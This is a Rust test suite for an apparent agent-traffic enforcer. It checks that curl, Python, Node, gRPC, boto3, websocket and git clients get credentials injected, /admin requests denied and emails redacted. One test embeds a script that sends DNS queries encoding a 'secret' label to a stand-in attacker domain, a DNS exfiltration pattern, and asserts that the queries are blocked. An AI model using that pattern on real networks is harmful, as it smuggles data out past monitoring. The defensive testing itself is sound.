//! HTTP clients, as agents use them: governed, over TLS that the enforcer speaks for the upstream.

use std::{fs, process::Command};

use portcullis::record::read;
use portcullis_tests::{Daemon, PASSWORD, Server as _, Web};

use crate::{
    governed,
    languages::{copy, run, tools},
    text,
};

pub(crate) const POLICY: &str = r#"
[workload]
name = "bot"
cgroup = "{slice}/bot/*"
autonomy = "autonomous"

[[upstream]]
name = "api"
protocol = "http"
address = ["localhost:{port}", "127.0.0.1:{port}"]
tls = { ca = "{ca}" }
credential = { source = "file", path = "{password}" }

[[rule]]
name = "reads"
verbs = ["read", "write"]
targets = ["**"]
effect = "allow"

[[rule]]
name = "no administration"
targets = ["* /admin", "* /admin/**"]
effect = "deny"

[[mask]]
detect = ["email"]
with = "redact"
"#;

/// Everything on record so far, as JSON.
pub(crate) fn record(daemon: &Daemon) -> String {
    let events = read::events(daemon.path("state/record")).unwrap();
    events.map(|recorded| serde_json::to_string(&*recorded.unwrap().event).unwrap()).collect::<Vec<_>>().join("\n")
}

#[test]
fn curl() {
    let web = Web::start().unwrap();
    let daemon = Daemon::start(&web, POLICY).unwrap();
    let port = web.port();
    for (url, more) in [
        (format!("https://localhost:{port}"), &[][..]),
        (format!("https://127.0.0.1:{port}"), &[]),
        // What the upstream does not speak, the client is not offered.
        (format!("https://localhost:{port}"), &["--http2"]),
        (format!("https://localhost:{port}"), &["--http1.0"]),
        // To the enforcer in the clear, from there over TLS.
        (format!("http://localhost:{port}"), &[]),
    ] {
        let curl = |target: &str, rest: &[&str]| {
            let url = format!("{url}{target}");
            let arguments = [&["-sS", "--max-time", "20", &url], more, rest].concat();
            text(&governed(&daemon, "curl", &arguments))
        };
        let body = curl("/body", &["-d", "to someone@example.com", "-H", "Authorization: Bearer mine"]);
        assert_eq!(body, "to [redacted]", "{url} {more:?}: {}", daemon.log());
        let refused = curl("/admin/users", &["-w", "%{http_code}"]);
        assert!(refused.contains("no administration") && refused.ends_with("403"), "{refused}");
        assert_eq!(curl("/x", &["--compressed"]), "fine");
    }
    let seen = web.seen().unwrap();
    assert_eq!(seen.len(), 10, "{seen:?}");
    assert!(seen.iter().all(|seen| seen.header("authorization") == Some(&*format!("Bearer {PASSWORD}"))), "{seen:?}");
    // Two requests on one connection, and an upload that is not announced.
    let one = format!("https://localhost:{port}/x");
    let two = text(&governed(&daemon, "curl", &["-sS", &one, &one, "-w", "%{num_connects} "]));
    assert_eq!(two, "fine1 fine0 ");
    let upload = format!("https://localhost:{port}/body");
    let chunked = governed(&daemon, "/bin/sh", &["-c", "echo hello | curl -sS -T - -X POST \"$0\"", &upload]);
    assert_eq!(text(&chunked), "hello\n");
    // Another name on the same address: the enforcer speaks for the upstream's names only.
    let other = format!("https://other.example:{port}/x");
    let to = format!("other.example:{port}:127.0.0.1:{port}");
    let arguments = ["-sS", &other, "--connect-to", &to];
    assert!(text(&governed(&daemon, "curl", &arguments)).contains("SSL"));
    let blind = [&arguments[..], &["-k", "-w", "%{http_code}"]].concat();
    assert!(text(&governed(&daemon, "curl", &blind)).ends_with("421"));
    let record = record(&daemon);
    assert!(record.contains("no administration") && !record.contains(PASSWORD), "{record}");
}

/// Over TLS, the name in the handshake tells which of two upstreams at one address is meant; curl sends none for an address.
#[test]
fn curl_reaches_each_of_two_upstreams_at_one_address() {
    let web = Web::start().unwrap();
    let second = "\n[[upstream]]\nname = \"second\"\nprotocol = \"http\"\naddress = [\"127.0.0.1:{port}\"]\n\
        tls = { ca = \"{ca}\" }\ncredential = { source = \"file\", path = \"{password}\", inject = \"header:x-second\" }\n";
    let policy = POLICY.replace(", \"127.0.0.1:{port}\"", "");
    let daemon = Daemon::start(&web, &format!("{policy}{second}")).unwrap();
    for (host, field) in [("localhost", "authorization"), ("127.0.0.1", "x-second")] {
        let url = format!("https://{host}:{}/x", web.port());
        assert_eq!(text(&governed(&daemon, "curl", &["-sS", "--max-time", "20", &url])), "fine", "{}", daemon.log());
        let seen = web.seen().unwrap().pop().unwrap();
        assert!(seen.header(field).is_some_and(|value| value.ends_with(PASSWORD)), "{host} {seen:?}");
    }
}

/// The packages of Python that the tests use.
pub(crate) fn site(lib: &std::path::Path) -> std::path::PathBuf {
    fs::read_dir(lib).unwrap().next().unwrap().unwrap().path().join("site-packages")
}

#[test]
fn curl_and_node_speak_http2() {
    let web = Web::start_http2().unwrap();
    let daemon = Daemon::start(&web, POLICY).unwrap();
    let url = format!("https://localhost:{}", web.port());
    let curl = |target: &str, rest: &[&str]| {
        let url = format!("{url}{target}");
        text(&governed(&daemon, "curl", &[&["-sS", "--max-time", "20", "-w", " %{http_version}", &url], rest].concat()))
    };
    // As the upstream speaks it too, and as the client asks otherwise.
    for (more, version) in [(&[][..], "2"), (&["--http2"], "2"), (&["--http1.1"], "1.1"), (&["--http1.0"], "1")] {
        let body = curl("/body", &[&["-d", "to someone@example.com"], more].concat());
        assert_eq!(body, format!("to [redacted] {version}"), "{}", daemon.log());
        let refused = curl("/admin/users", more);
        assert!(refused.contains("no administration") && refused.ends_with(version), "{refused}");
    }
    // Several at once on one connection, and each encoding that curl asks for.
    let all: Vec<String> = (0..20).map(|n| format!("{url}/echo?n={n}")).collect();
    let arguments = ["-sS", "--parallel", "-w", "%{num_connects} %{http_version}\n"];
    let outputs = all.iter().flat_map(|url| ["-o", "/dev/null", url.as_str()]);
    let said = text(&governed(&daemon, "curl", &arguments.iter().copied().chain(outputs).collect::<Vec<_>>()));
    assert_eq!(said.matches(" 2\n").count(), 20, "{said}");
    assert_eq!(said.matches("1 2\n").count(), 1, "{said}");
    let node = r#"
const assert = require('node:assert')
const client = require('node:http2').connect(process.argv[1], { ca: require('node:fs').readFileSync(process.env.SSL_CERT_FILE) })
const ask = (path, body) => new Promise((resolve, reject) => {
  const request = client.request({ ':path': path, ':method': body ? 'POST' : 'GET' })
  let status, text = ''
  request.on('response', fields => { status = fields[':status'] })
  request.on('data', piece => { text += piece })
  request.on('end', () => resolve([status, text]))
  request.on('error', reject)
  request.end(body)
})
async function main () {
  assert.deepStrictEqual(await ask('/body', 'to someone@example.com'), [200, 'to [redacted]'])
  const [status, problem] = await ask('/admin')
  assert.deepStrictEqual([status, JSON.parse(problem).rule], [403, 'no administration'])
  const all = await Promise.all([1, 2, 3].map(n => ask('/echo?n=' + n)))
  assert.deepStrictEqual(all.map(([, text]) => JSON.parse(text).path), ['/echo?n=1', '/echo?n=2', '/echo?n=3'])
  client.close()
  console.log('ok')
}
main().catch(error => { console.log(error); process.exit(1) })
"#;
    let output = governed(&daemon, "node", &["-e", node, &url]);
    assert_eq!(text(&output), "ok\n", "{}", daemon.log());
    let seen = web.seen().unwrap();
    assert!(seen.iter().all(|seen| seen.header("authorization") == Some(&*format!("Bearer {PASSWORD}"))), "{seen:?}");
    let spoken = |version| seen.iter().filter(|seen| seen.header("x-spoken") == Some(version)).count();
    assert_eq!((spoken("HTTP/2.0"), spoken("HTTP/1.1")), (26, 2), "as the client speaks");
}

#[test]
fn grpc() {
    let lib = tools().join("python/lib");
    let server = Web::start_script(include_str!("grpc_server.py"), &site(&lib)).unwrap();
    let policy = POLICY.replace("\"* /admin\", \"* /admin/**\"", "\"POST /shop.Orders/Remove\"");
    let policy = policy.replace("effect = \"deny\"", "effect = \"deny\"\nreason = \"orders stay\"");
    let daemon = Daemon::start(&server, &policy).unwrap();
    let packages = copy(&daemon, &lib, "python");
    let file = daemon.path("grpc_client.py");
    fs::write(&file, include_str!("grpc_client.py")).unwrap();
    let arguments = ["-B", &file.display().to_string(), &server.port().to_string()];
    let mut command = daemon.governed("/usr/bin/python3", &arguments).unwrap();
    run(&daemon, command.env("PYTHONPATH", site(&packages)));
    let calls = fs::read_to_string(server.folder().join("calls")).unwrap();
    let credential = format!("Bearer {PASSWORD}");
    assert_eq!(calls.lines().count(), 2 * 55, "{calls}");
    assert!(calls.lines().all(|call| call.contains(&credential)) && !calls.contains("Remove"), "{calls}");
    let record = record(&daemon);
    assert!(
        record.contains("200 OK, grpc-status 0") && record.contains("grpc-status 5 there is no such order"),
        "{record:.2000}"
    );
    assert!(record.contains("POST /shop.Orders/Remove") && !record.contains(PASSWORD), "{record:.2000}");
}

/// boto3 signs with keys of no worth; what arrives is checked by botocore's own signer.
#[test]
fn boto3() {
    let lib = tools().join("python/lib");
    let server = Web::start_script(include_str!("aws_server.py"), &site(&lib)).unwrap();
    let keys = server.folder().join("keys");
    let json = r#"{"Version": 1, "AccessKeyId": "ASIAREAL", "SecretAccessKey": "another-Horse/battery+Staple",
                   "SessionToken": "a//session==token"}"#;
    fs::write(&keys, json).unwrap();
    fs::set_permissions(&keys, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let credential = format!("path = \"{}\", inject = \"sigv4:eu-central-1/s3\"", keys.display());
    let daemon = Daemon::start(&server, &POLICY.replace("path = \"{password}\"", &credential)).unwrap();
    let packages = copy(&daemon, &lib, "python");
    let file = daemon.path("aws_client.py");
    fs::write(&file, include_str!("aws_client.py")).unwrap();
    let arguments = ["-B", &file.display().to_string(), &server.port().to_string()];
    let mut command = daemon.governed("/usr/bin/python3", &arguments).unwrap();
    run(&daemon, command.env("PYTHONPATH", site(&packages)));
    let calls = fs::read_to_string(server.folder().join("calls")).unwrap();
    assert!(calls.lines().count() > 12 && calls.lines().all(|call| call.starts_with("good ")), "{calls}");
    let record = record(&daemon);
    assert!(!record.contains("battery+Staple") && !record.contains("session==token"), "{record:.2000}");
}

#[test]
fn python_and_node_without_packages() {
    let web = Web::start().unwrap();
    let daemon = Daemon::start(&web, POLICY).unwrap();
    let url = format!("https://localhost:{}", web.port());
    let python = r#"
import http.client, json, sys, urllib.error, urllib.request
url = sys.argv[1]
assert urllib.request.urlopen(url + "/body", b"to someone@example.com").read() == b"to [redacted]"
seen = json.load(urllib.request.urlopen(url + "/echo?a=1"))
assert seen["path"] == "/echo?a=1", seen
try:
    urllib.request.urlopen(url + "/admin")
    raise SystemExit("not refused")
except urllib.error.HTTPError as error:
    assert error.code == 403 and json.load(error)["rule"] == "no administration"
print("ok")
"#;
    let output = governed(&daemon, "/usr/bin/python3", &["-B", "-c", python, &url]);
    assert_eq!(text(&output), "ok\n", "{}", daemon.log());
    let node = r#"
const assert = require('node:assert')
const url = process.argv[1]
async function main () {
  const post = await fetch(url + '/body', { method: 'POST', body: 'to someone@example.com' })
  assert.strictEqual(await post.text(), 'to [redacted]')
  const refused = await fetch(url + '/admin')
  assert.strictEqual(refused.status, 403)
  assert.strictEqual((await refused.json()).rule, 'no administration')
  const all = await Promise.all([1, 2, 3].map(n => fetch(url + '/echo?n=' + n).then(r => r.json())))
  assert.deepStrictEqual(all.map(one => one.path), ['/echo?n=1', '/echo?n=2', '/echo?n=3'])
  console.log('ok')
}
main().catch(error => { console.log(error); process.exit(1) })
"#;
    let output = governed(&daemon, "node", &["-e", node, &url]);
    assert_eq!(text(&output), "ok\n", "{}", daemon.log());
}

#[test]
fn requests_httpx_and_aiohttp() {
    let web = Web::start().unwrap();
    let daemon = Daemon::start(&web, POLICY).unwrap();
    let packages = copy(&daemon, &tools().join("python/lib"), "python");
    let file = daemon.path("web_client.py");
    fs::write(&file, include_str!("web_client.py")).unwrap();
    let arguments = ["-B", &file.display().to_string(), &format!("https://localhost:{}", web.port())];
    let mut command = daemon.governed("/usr/bin/python3", &arguments).unwrap();
    run(&daemon, command.env("PYTHONPATH", site(&packages)));
    let seen = web.seen().unwrap();
    let credential = format!("Bearer {PASSWORD}");
    assert!(seen.iter().all(|seen| seen.header("authorization") == Some(&*credential)), "{seen:?}");
}

#[test]
fn websockets() {
    let lib = tools().join("python/lib");
    let server = Web::start_script(include_str!("../session/websocket_server.py"), &site(&lib)).unwrap();
    let policy = POLICY.replace("\"write\"]", "\"write\", \"execute\"]");
    let daemon = Daemon::start(&server, &policy).unwrap();
    let packages = copy(&daemon, &lib, "python");
    let file = daemon.path("websocket_client.py");
    fs::write(&file, include_str!("websocket_client.py")).unwrap();
    let arguments = ["-B", &file.display().to_string(), &format!("wss://localhost:{}", server.port())];
    let mut command = daemon.governed("/usr/bin/python3", &arguments).unwrap();
    run(&daemon, command.env("PYTHONPATH", site(&packages)));
    let record = record(&daemon);
    assert_eq!(record.matches("WebSocket text from the workload").count(), 4 + 500, "{record:.2000}");
    assert!(record.contains("5 messages from the workload, 5 to it, 1 pings") && !record.contains(PASSWORD));
}

#[test]
fn git_clones() {
    let web = Web::start().unwrap();
    let daemon = Daemon::start(&web, POLICY).unwrap();
    let make = "set -e; mkdir -p work files; cd work; git init -q; echo one > a; git add a; \
         git -c user.name=x -c user.email=x@example.com commit -qm first; cd ..; git clone -q --bare work files/repo.git; \
         git -C files/repo.git update-server-info; chmod -R a+rX files";
    let made = Command::new("/bin/sh").arg("-c").arg(make).current_dir(web.folder()).output().unwrap();
    assert!(made.status.success(), "{}", text(&made));
    let to = daemon.path("clone");
    fs::create_dir(&to).unwrap();
    std::os::unix::fs::chown(&to, Some(65534), Some(65534)).unwrap();
    let url = format!("https://localhost:{}/files/repo.git", web.port());
    let output = governed(&daemon, "git", &["clone", "-q", &url, &to.join("repo").display().to_string()]);
    assert!(output.status.success(), "{}{}", text(&output), daemon.log());
    assert_eq!(fs::read_to_string(to.join("repo/a")).unwrap(), "one\n");
}

/// Roads out through names: what is asked by whatever means is answered here, and reaches nobody.
#[test]
fn names_carry_nothing_out() {
    let web = Web::start().unwrap();
    let daemon = Daemon::start(&web, POLICY).unwrap();
    let python = r#"
import socket, struct
def ask(name, kind, server):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".") if l)
    message = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
    with socket.create_connection((server, 53), timeout=10) as s:
        s.sendall(struct.pack(">H", len(message)) + message)
        answer = s.recv(4096)
    return answer[5] & 15, struct.unpack(">H", answer[8:10])[0]
for server in ["9.9.9.9", "127.0.0.53", "10.0.0.2"]:
    code, count = ask("localhost", 1, server)
    assert code == 0 and count >= 1, (server, code, count)
    for name in ["evil.example", "secret-" + "x" * 50 + ".evil.example", "localhost.evil.example"]:
        for kind in [1, 16, 28, 255]:
            assert ask(name, kind, server) == (3, 0), (server, name, kind)
for family in [socket.AF_INET, socket.AF_INET6]:
    try:
        socket.socket(family, socket.SOCK_DGRAM).connect(("127.0.0.1" if family == socket.AF_INET else "::1", 443))
        raise SystemExit("UDP is open")
    except OSError:
        pass
try:
    socket.getaddrinfo("asked-by-the-library.example", 443)
    raise SystemExit("it resolved")
except socket.gaierror:
    pass
print("ok")
"#;
    let output = governed(&daemon, "/usr/bin/python3", &["-B", "-c", python]);
    assert_eq!(text(&output), "ok\n", "{}", daemon.log());
    let record = record(&daemon);
    assert!(record.contains("dns evil.example TXT"), "{record}");
    if fs::read_to_string("/etc/resolv.conf").is_ok_and(|text| text.contains("nameserver")) {
        assert!(record.contains("dns asked-by-the-library.example"), "the library asks over TCP: {record}");
    }
}
